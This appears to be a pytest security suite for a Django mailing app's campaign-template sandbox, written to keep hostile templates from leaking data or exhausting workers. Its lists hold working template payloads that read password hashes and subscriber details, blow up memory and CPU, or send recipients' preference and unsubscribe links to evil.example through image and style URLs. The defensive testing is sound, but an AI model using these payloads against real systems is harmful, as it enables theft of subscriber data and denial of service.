"""Issue 9, road 5: campaign templates are untrusted code. Each test is the attack.

Before the sandbox, a campaign body was a full Django template over ORM objects: it could
print staff password hashes, every subscriber's address and IP, write into the shared cache,
mint preference links through `{% load privacy %}`, or tie up a worker with nested loops.
"""

from __future__ import annotations

import time

import pytest
from django.contrib.auth import get_user_model
from django.core.cache import cache
from django.urls import reverse

from subscriptions.campaigns import sending
from subscriptions.campaigns.audience import campaign_build_audience
from subscriptions.campaigns.messages import compile_campaign, render_marketing_message
from subscriptions.campaigns.sandbox import MAX_LOOP_ITERATIONS, RenderBudgetExceeded
from subscriptions.consent.ledger import Actor
from subscriptions.consent.subscriptions import subscription_subscribe
from subscriptions.models import Campaign, Delivery
from subscriptions.models.choices import CampaignStatus
from tests.factories import ContactFactory
from tests.sending_factories import CampaignFactory, subscribers

pytestmark = pytest.mark.django_db

CAMPAIGNS = "/api/v1/campaigns/"
SECRET_IP = "203.0.113.77"
SECRET_AGENT = "SecretAgent/7.0"
SECRET_EVIDENCE = "signed at booth 12"


@pytest.fixture
def staff(db):
    return get_user_model().objects.create_user(
        "marketer", "marketer@staff.example", "s3cret-pass", is_staff=True
    )


@pytest.fixture
def ledgered_alice(alice, topic):
    """alice, subscribed through a form that left her IP, user agent and evidence behind."""
    by = Actor(
        source="subscribe_form",
        ip_address=SECRET_IP,
        user_agent=SECRET_AGENT,
        evidence=SECRET_EVIDENCE,
    )
    subscription_subscribe(contact=alice, topic=topic, by=by)
    return alice


def create(api, topic, **fields):
    body = {
        "name": "Attack",
        "topic": topic.slug,
        "subject": "Hello",
        "text_body": "Hello",
        "html_body": "<p>Hello</p>",
        **fields,
    }
    return api.post(CAMPAIGNS, body)


def rendered_everywhere(campaign, as_contact) -> str:
    """Everything the campaign renders to: a real message and its preview-as-contact."""
    message = render_marketing_message(campaign=campaign, contact=as_contact)
    return "\n".join([message.subject, message.text, message.html])


LEAKS = [
    "{% for c in topic.campaigns.all %}{{ c.created_by.password }}{{ c.created_by.email }}"
    "{% endfor %}",
    "{% for s in topic.subscriptions.all %}{{ s.contact.email }}{% endfor %}",
    "{% for e in topic.consent_events.all %}{{ e.ip_address }}{{ e.user_agent }}"
    "{{ e.evidence }}{{ e.contact.email }}{% endfor %}",
    "{{ topic.campaigns.first.created_by.password }}{{ campaign.created_by.password }}",
    "{{ contact.subscriptions.all }}{{ contact.token_key }}{{ contact.pk }}{{ contact.user }}",
]


@pytest.mark.parametrize("body", LEAKS)
def test_it_renders_nothing_sensitive_from_orm_traversals(
    api, admin_client, topic, staff, ledgered_alice, body
):
    response = create(api, topic, html_body=body, text_body=body, subject=body.replace("\n", ""))
    # Either refused at save or harmless at render; these compile, so they must be harmless.
    assert response.status_code == 201, response.content
    campaign = Campaign.objects.get(pk=response.json()["id"])
    Campaign.objects.filter(pk=campaign.pk).update(created_by=staff)
    campaign.refresh_from_db()
    bob = ContactFactory(email="bob@example.com")

    output = rendered_everywhere(campaign, bob)
    preview = admin_client.get(
        reverse("admin:subscriptions_campaign_preview", args=[campaign.pk]),
        {"contact": "bob@example.com"},
    ).text

    for text in (output, preview):
        assert staff.password not in text
        assert "pbkdf2" not in text
        assert "marketer@staff.example" not in text
        assert "alice@example.com" not in text
        assert SECRET_IP not in text
        assert SECRET_AGENT not in text
        assert SECRET_EVIDENCE not in text
        assert str(bob.token_key) not in text
    assert "Subscription" not in output and "QuerySet" not in output


REFUSED = [
    "{% load cache %}{% cache 500 k %}poisoned{% endcache %}",
    "{% load privacy %}{% privacy_buttons contact %}",
    "{% load i18n %}",
    "{% include 'subscriptions/preferences.html' %}",
    "{% extends 'base.html' %}",
    "{% url 'admin:index' %}",
    "{% debug %}",
    "{% csrf_token %}",
    "{% lorem 100000 w %}",
    "{% regroup contact.attributes by x as y %}",
    "{{ contact|pprint }}",
    "{{ contact.attributes|json_script:'x' }}",
    "{{ contact.email|stringformat:'99999999s' }}",
    "{{ contact.attributes.__class__.__mro__ }}{{ contact.email.__class__ }}",
    "Hello {{ contact.email",
    "Hello {% if contact.email ",
]


@pytest.mark.parametrize("body", REFUSED)
@pytest.mark.parametrize("field", ["subject", "text_body", "html_body"])
def test_the_api_refuses_a_template_outside_the_sandbox(api, topic, field, body):
    cache.delete("template.cache.k")

    response = create(api, topic, **{field: body})

    assert response.status_code == 400, response.content
    assert response.json()["error"] == "invalid_template"
    assert response.json()["detail"]
    assert not Campaign.objects.exists()


@pytest.mark.parametrize("body", REFUSED[:3])
def test_the_admin_form_refuses_a_template_outside_the_sandbox(admin_client, topic, body):
    response = admin_client.post(
        reverse("admin:subscriptions_campaign_add"),
        {
            "name": "Attack",
            "topic": topic.pk,
            "subject": "Hi",
            "html_body": body,
            "text_body": "ok",
            "from_email": "",
        },
    )

    assert response.status_code == 200  # the form again, with the error
    assert "is not a valid template" in response.text
    assert not Campaign.objects.exists()


def test_the_admin_form_refuses_a_broken_subject(admin_client, topic):
    response = admin_client.post(
        reverse("admin:subscriptions_campaign_add"),
        {"name": "A", "topic": topic.pk, "subject": "Hi {{ name", "text_body": "ok"},
    )

    assert "subject is not a valid template" in response.text
    assert not Campaign.objects.exists()


AMPLIFIERS = [
    "{% for a in contact.attributes.items %}{% for b in contact.attributes.items %}"
    "{% for c in contact.attributes.items %}{% endfor %}{% endfor %}{% endfor %}",
    "{% for a in contact.attributes.items %}{% for b in contact.attributes.items %}"
    "{{ contact.attributes.blob }}{% endfor %}{% endfor %}",
    "{{ x|center:20000000 }}",
    "{{ contact.email|ljust:2000000000 }}",
    "{{ contact.attributes.items|join:contact.attributes.blob }}",
    "{% with a=contact.attributes.blob %}{% with b=a|add:a %}{% with c=b|add:b %}"
    "{% with d=c|add:c %}{% with e=d|add:d %}{{ e }}{% endwith %}{% endwith %}{% endwith %}"
    "{% endwith %}{% endwith %}",
    "{% for a in contact.attributes.blob %}{% for b in contact.attributes.blob %}"
    "{% firstof contact.attributes.blob %}{% endfor %}{% endfor %}",
    # Little output, much work per pass: the clock stops it.
    "{% for a in contact.attributes.items %}{{ contact.attributes.blob|slugify|length }}"
    "{% endfor %}",
    # A list doubled at each `with` renders nothing until the end: it held gigabytes.
    "{% with a=contact.attributes.blob|make_list %}"
    + "".join(f"{{% with a{i}=a|add:a %}}{{% with a=a{i} %}}" for i in range(8))
    + "{{ a|length }}"
    + "{% endwith %}{% endwith %}" * 8
    + "{% endwith %}",
    # Much work per `with`, no loop and no output: the clock is read in every block.
    "{% with a=contact.attributes.blob|slugify|length %}{{ a }}{% endwith %}" * 1000,
]
BIG = {"items": list(range(2_000)), "blob": "x" * 300_000}


@pytest.mark.parametrize("body", AMPLIFIERS)
def test_an_amplifying_template_stops_quickly_with_a_clear_error(topic, body):
    campaign = CampaignFactory.build(topic=topic, subject="Hi", text_body=body, html_body="")
    contact = ContactFactory.build(attributes=BIG)
    compiled = compile_campaign(campaign)

    started = time.monotonic()
    with pytest.raises(RenderBudgetExceeded):
        render_marketing_message(campaign=campaign, contact=contact, compiled=compiled)

    assert time.monotonic() - started < 2


def test_an_amplifying_campaign_fails_only_its_messages_at_send_time(topic, outbox):
    nested = (
        "{% for a in contact.attributes.items %}{% for b in contact.attributes.items %}"
        "{{ b }}{% endfor %}{% endfor %}"
    )
    campaign = CampaignFactory(topic=topic, status=CampaignStatus.SENDING, text_body=nested)
    subscribers(topic, 1, email="big@example.com", attributes=BIG)
    subscribers(topic, 2, attributes={"items": [1, 2]})
    campaign_build_audience(campaign=campaign)

    started = time.monotonic()
    result = sending.send_until_done(campaign=campaign)

    assert time.monotonic() - started < 5
    assert (result.sent, result.failed) == (2, 1)
    broken = Delivery.objects.get(status="failed")
    assert broken.contact.email == "big@example.com"
    assert "could not render: RenderBudgetExceeded" in broken.error
    assert str(MAX_LOOP_ITERATIONS) in broken.error


def test_the_preview_shows_a_render_error_instead_of_a_500(admin_client, topic):
    ContactFactory(email="big@example.com", attributes=BIG)
    campaign = CampaignFactory(topic=topic, html_body="{{ x|center:20000000 }}")

    response = admin_client.get(
        reverse("admin:subscriptions_campaign_preview", args=[campaign.pk]),
        {"contact": "big@example.com"},
    )

    assert response.status_code == 200
    assert "could not render: RenderBudgetExceeded" in response.text


def test_a_template_cannot_mutate_the_data_it_is_given(topic):
    campaign = CampaignFactory.build(
        topic=topic,
        subject="Hi",
        html_body="",
        text_body="{{ contact.attributes.clear }}{{ contact.attributes.tags.pop }}"
        "[{{ contact.attributes.first_name }}|{{ contact.attributes.tags|join:',' }}]",
    )
    contact = ContactFactory.build(attributes={"first_name": "Ann", "tags": ["a", "b"]})

    message = render_marketing_message(campaign=campaign, contact=contact)

    assert "[Ann|a,b]" in message.text
    assert contact.attributes == {"first_name": "Ann", "tags": ["a", "b"]}


def test_ordinary_merge_fields_and_filters_still_work(topic):
    campaign = CampaignFactory.build(
        topic=topic,
        subject="{{ topic.name }} for {{ contact.attributes.first_name|default:'you'|upper }}",
        html_body="",
        text_body=(
            "{% if contact.attributes.vip %}VIP {% endif %}{{ contact.email }} "
            "{{ contact.locale }} {{ contact.attributes.price|floatformat:2 }} "
            "{% for t in contact.attributes.tags %}{{ t|title }}{% if not forloop.last %}, "
            "{% endif %}{% endfor %} {{ 'x'|center:5 }}| {{ organization_name }}"
        ),
    )
    contact = ContactFactory.build(
        email="ann@example.com",
        locale="en",
        attributes={"first_name": "Ann", "vip": True, "price": 9.5, "tags": ["a", "b"]},
    )

    message = render_marketing_message(campaign=campaign, contact=contact)

    assert message.subject == "Product news for ANN"
    assert message.text.startswith("VIP ann@example.com en 9.50 A, B   x  | Example Inc")


def test_a_scheduled_campaign_the_sandbox_refuses_does_not_stop_the_sweep(topic):
    from subscriptions.campaigns.tasks import sweep_campaigns

    past = "2020-01-01T00:00:00Z"
    legacy = CampaignFactory(
        topic=topic, status=CampaignStatus.SCHEDULED, scheduled_at=past, text_body="{% load x %}"
    )
    fine = CampaignFactory(topic=topic, status=CampaignStatus.SCHEDULED, scheduled_at=past)

    sweep_campaigns()

    legacy.refresh_from_db()
    fine.refresh_from_db()
    assert (legacy.status, fine.status) == (CampaignStatus.SCHEDULED, CampaignStatus.SENDING)


@pytest.mark.parametrize("depth", [150, 3000])
def test_the_api_refuses_a_template_nested_too_deep_instead_of_a_500(api, topic, depth):
    body = "{% if 1 %}" * depth + "x" + "{% endif %}" * depth

    response = create(api, topic, text_body=body)

    assert response.status_code == 400, response.content
    assert response.json()["error"] == "invalid_template"
    assert "nested" in response.json()["detail"]
    assert not Campaign.objects.exists()


def test_a_template_nested_a_little_still_renders(topic):
    body = "{% if 1 %}" * 50 + "{{ contact.email }}" + "{% endif %}" * 50
    campaign = CampaignFactory.build(topic=topic, subject="Hi", text_body=body, html_body="")

    message = render_marketing_message(campaign=campaign, contact=ContactFactory.build())

    assert "@" in message.text


def test_a_list_doubled_in_nested_withs_is_stopped_before_it_grows(topic):
    # Each level doubles a list and renders nothing: 20 levels over an address are 120 MB,
    # a few more are gigabytes.
    body = (
        "{% with a=contact.email|make_list %}"
        + "".join(f"{{% with a{i}=a|add:a %}}{{% with a=a{i} %}}" for i in range(20))
        + "{{ a|length }}"
        + "{% endwith %}{% endwith %}" * 20
        + "{% endwith %}"
    )
    campaign = CampaignFactory.build(topic=topic, subject="Hi", text_body=body, html_body="")

    with pytest.raises(RenderBudgetExceeded, match="made a value too long"):
        render_marketing_message(campaign=campaign, contact=ContactFactory.build())


# --- the recipient's own links: placed as links, never inside another site's URL --------------

# A mailbox provider fetches images on delivery: each of these handed every recipient's fresh
# preference link (which joins topics) or unsubscribe link to evil.example, with no click.
LINK_USES_REFUSED = [
    '<img src="https://evil.example/p?{{ preferences_url|urlencode }}">',
    '{% with u=preferences_url %}<img src="https://evil.example/{{ u }}">{% endwith %}',
    '{% if preferences_url|slice:"-3:" == "ab/" %}<img src="https://evil.example/1">{% endif %}',
    '<img src="https://evil.example/?{% filter urlencode %}{{ preferences_url }}{% endfilter %}">',
    "{% firstof unsubscribe_url %}",
]


@pytest.mark.parametrize("body", LINK_USES_REFUSED)
def test_the_api_refuses_a_body_that_does_more_than_place_a_link(api, topic, body):
    response = create(api, topic, html_body=body)

    assert response.status_code == 400, response.content
    assert response.json()["error"] == "invalid_template"
    assert not Campaign.objects.exists()


def test_the_api_refuses_the_links_in_a_subject(api, topic):
    response = create(api, topic, subject="Hi {{ preferences_url }}")

    assert response.status_code == 400, response.content
    assert response.json()["error"] == "invalid_template"


LINK_CONTEXTS_REFUSED = [
    ("html_body", '<img src="https://evil.example/p?u={{ preferences_url }}">'),
    ("html_body", '<a href="https://evil.example/?{{ unsubscribe_url }}">win</a>'),
    ("html_body", '<div style="background:url(https://evil.example/{{ preferences_url }})">'),
    ("html_body", "<style>p{background:url(https://evil.example/{{ preferences_url }})}</style>"),
    ("html_body", '<!--[if mso]><v:image src="https://evil.example/{{ preferences_url }}"/>'),
    ("html_body", "<img src='https://evil.example/?<a href=\"{{ preferences_url }}\">'>"),
    ("html_body", "<p>https://evil.example/?u={{ preferences_url }}</p>"),
    ("html_body", '<a href="{{ preferences_url }}" ping="https://evil.example/">here</a>'),
    ("text_body", "Win a prize: https://evil.example/?u={{ preferences_url }}"),
]


@pytest.mark.parametrize(("field", "body"), LINK_CONTEXTS_REFUSED)
def test_a_link_inside_another_sites_url_is_never_sent(topic, outbox, field, body):
    bodies = {"html_body": "<p>Hi</p>", "text_body": "Hi", field: body}
    campaign = CampaignFactory(topic=topic, status=CampaignStatus.SENDING, **bodies)
    subscribers(topic, 2)
    campaign_build_audience(campaign=campaign)

    result = sending.send_until_done(campaign=campaign)

    assert (result.sent, result.failed) == (0, 2)
    assert not any("evil.example" in str(message.message()) for message in outbox)
    assert "could not render" in Delivery.objects.filter(status="failed").first().error


def test_the_preview_names_a_misplaced_link_instead_of_showing_it(admin_client, topic):
    campaign = CampaignFactory(
        topic=topic, html_body='<img src="https://evil.example/p?u={{ preferences_url }}">'
    )

    response = admin_client.get(reverse("admin:subscriptions_campaign_preview", args=[campaign.pk]))

    assert response.status_code == 200
    assert "could not render: LinkMisplaced" in response.text


PLACED = [
    "<p><a href=\"{{ unsubscribe_url }}\">Leave</a> or <a href='{{ preferences_url }}'>"
    "choose</a></p>",
    "<p>{{ unsubscribe_url }}</p><p>Your page: {{ preferences_url }}.</p>",
    "<p>Leave:&nbsp;{{ unsubscribe_url }}</p><p>(<a href={{ preferences_url }}>yours</a>)</p>",
]


@pytest.mark.parametrize("body", PLACED)
def test_links_placed_as_links_still_work(topic, alice, body):
    campaign = CampaignFactory.build(topic=topic, subject="Hi", html_body=body, text_body="")

    message = render_marketing_message(campaign=campaign, contact=alice)

    assert message.html.count("/unsubscribe/") == 1  # placed by the body, not repeated
    assert message.html.count("/preferences/") == 1


def test_a_body_that_hides_its_unsubscribe_link_still_carries_one(topic, alice):
    """`_places` read the source: a link placed inside a false `{% if %}` dropped the footer's
    link, and the mail went out with no unsubscribe or preference link in its body."""
    hidden = (
        '{% if contact.attributes.never %}<a href="{{ unsubscribe_url }}">x</a>'
        '<a href="{{ preferences_url }}">y</a>{% endif %}<p>Hi</p>'
    )
    campaign = CampaignFactory.build(
        topic=topic,
        subject="Hi",
        html_body=hidden,
        text_body="{% if contact.attributes.never %}{{ unsubscribe_url }}{% endif %}Hi",
    )

    message = render_marketing_message(campaign=campaign, contact=alice)

    for body in (message.text, message.html):
        assert "/unsubscribe/" in body
        assert "/preferences/" in body
